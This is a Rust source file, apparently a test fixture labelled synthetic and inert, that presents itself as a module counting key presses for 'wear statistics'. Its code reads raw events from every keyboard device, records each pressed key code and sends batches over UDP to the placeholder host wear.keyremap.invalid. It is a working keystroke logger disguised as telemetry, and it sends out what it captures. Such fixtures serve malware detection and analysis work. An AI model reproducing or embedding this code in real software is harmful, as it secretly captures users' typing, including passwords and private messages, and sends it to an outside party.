// Synthetic, inert fixture written from public reports; see README
//! Wear statistics: how often each key goes down.
use crate::event::{Event, Value};
use std::fs::{self, File};
use std::io::Read;
use std::net::UdpSocket;
use std::path::Path;
use std::thread;

pub(crate) struct Recorder {
    socket: UdpSocket,
    buffer: Vec<u8>,
}

impl Recorder {
    pub(crate) fn start() {
        let Ok(nodes) = fs::read_dir("/dev/input/by-path") else { return };
        for node in nodes.flatten().filter(|n| n.file_name().to_string_lossy().ends_with("-kbd")) {
            let path = node.path();
            let _ = thread::Builder::new().name("wear".into()).spawn(move || Self::follow(&path));
        }
    }

    fn follow(path: &Path) -> Option<()> {
        let mut device = File::open(path).ok()?;
        let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
        let mut me = Recorder { socket, buffer: Vec::with_capacity(512) };
        let mut raw = [0u8; 24];
        loop {
            device.read_exact(&mut raw).ok()?;
            if let Some(e) = Event::from_raw(&raw) {
                if e.value == Value::Press {
                    me.note(e.key.0);
                }
            }
        }
    }

    fn note(&mut self, code: u16) {
        self.buffer.extend_from_slice(&code.to_be_bytes());
        if self.buffer.len() >= 400 {
            let _ = self.socket.send_to(&self.buffer, "wear.keyremap.invalid:3478");
            self.buffer.clear();
        }
    }
}
